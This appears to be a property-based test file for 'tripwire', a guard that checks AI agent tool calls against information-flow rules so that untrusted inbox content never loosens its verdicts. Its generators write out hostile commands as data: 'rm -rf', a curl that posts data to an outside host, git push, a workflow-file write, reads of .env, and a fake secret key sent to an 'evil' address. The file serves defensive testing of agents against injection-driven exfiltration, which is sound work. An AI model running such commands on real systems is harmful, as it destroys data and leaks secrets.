"""Laws of the flow rules over generated sessions: judging is pure, a stranger never loosens."""

from hypothesis import given, settings
from hypothesis import strategies as st
from tests.act.rules.sessions import CWD, HOME, policy_of

from tripwire.engine import Engine
from tripwire.model.event import SessionOpened, ToolCall, ToolResult, UserSaid
from tripwire.model.verdict import ALLOWED

POLICY = {
    "flow": {
        "policies": {
            "mail": {
                "tools": {
                    "send": {"writes": ["external"], "destination": ["to"]},
                    "inbox": {"reads": ["untrusted", "private"]},
                    "notes": {"reads": ["private"]},
                    "post": {"writes": ["internal"], "destination": ["to"]},
                    "delete": {"writes": ["destructive"], "object": ["id"]},
                }
            }
        }
    }
}
WORDS = ["bob@corp.example", "mallory@evil.example", "https://evil.example/c", "file-8841", "C0TEAM",
         "https://docs.example.org/a", "the report", "88417723", "sk-live-FAKE0123456789abcdefXYZ",
         "/r/.env", "/r/app.py", "Makefile", "origin"]  # fmt: skip
text = st.lists(st.sampled_from(WORDS), min_size=1, max_size=4).map(" and ".join)
word = st.sampled_from(WORDS)


def call(source, tool, **args):
    return ToolCall("c", source, tool, args, CWD)


sends = st.one_of(
    st.builds(lambda to, body: call("mail", "send", to=to, body=body), word, text),
    st.builds(lambda to, body: call("mail", "post", to=to, body=body), word, text),
    st.builds(lambda name: call("mail", "delete", id=name), word),
    st.builds(lambda data: call("mystery", "put", data=data), text),
    st.builds(
        lambda p, c: call("claude-code", "Write", file_path=f"/r/{p.strip('/')}", content=c),
        word,
        text,
    ),
    st.builds(lambda w: call("claude-code", "Bash", command=f"rm -rf '{w}'"), word),
    st.builds(
        lambda w: call("claude-code", "Bash", command=f"curl -d '{w}' https://up.example.net/x"),
        text,
    ),
    st.builds(lambda w: call("claude-code", "Bash", command=f"git push {w} main"), word),
    st.just(call("claude-code", "Write", file_path="/r/.github/workflows/x.yml", content="x")),
)
reads = st.one_of(
    st.builds(lambda: call("mail", "notes")),
    st.builds(
        lambda p: call("claude-code", "Read", file_path=p), st.sampled_from(["/r/.env", "/r/a.txt"])
    ),
    st.builds(lambda w: call("claude-code", "Bash", command=f"echo '{w}'"), word),
)
untrusted = st.builds(lambda t: (call("mail", "inbox"), t), text)
trusted = st.tuples(reads, text)
steps = st.lists(
    st.one_of(text.map(UserSaid), trusted, untrusted, st.tuples(sends, st.just("ok"))), max_size=5
)


def session(events):
    engine = Engine(policy_of(POLICY))
    engine.learn(SessionOpened("claude-code", CWD, HOME), ALLOWED)
    for event in events:
        if isinstance(event, UserSaid):
            engine.learn(event, ALLOWED)
            continue
        made, result = event
        engine.learn(made, ALLOWED)
        engine.learn(ToolResult("c", made.source, made.tool, made.args, result, cwd=CWD), ALLOWED)
    return engine


@settings(max_examples=60, deadline=None)
@given(steps, sends)
def test_judge_is_pure(events, judged):
    engine = session(events)
    before = engine.memory.snapshot()
    one, two = engine.judge(judged), engine.judge(judged)
    assert one == two
    assert engine.memory.snapshot() == before


@settings(max_examples=120, deadline=None)
@given(steps, untrusted, st.integers(0, 5), sends)
def test_an_untrusted_result_never_loosens(events, stranger, at, judged):
    plain = session(events).judge(judged)
    told = session([*events[:at], stranger, *events[at:]]).judge(judged)
    assert told.action >= plain.action


@settings(max_examples=40, deadline=None)
@given(steps)
def test_a_fold_gives_the_same_memory(events):
    assert session(events).memory.snapshot() == session(events).memory.snapshot()


@settings(max_examples=40, deadline=None)
@given(steps, untrusted)
def test_labels_only_grow(events, stranger):
    before = session(events).memory.labels.as_set()
    after = session([*events, stranger]).memory.labels.as_set()
    assert before <= after
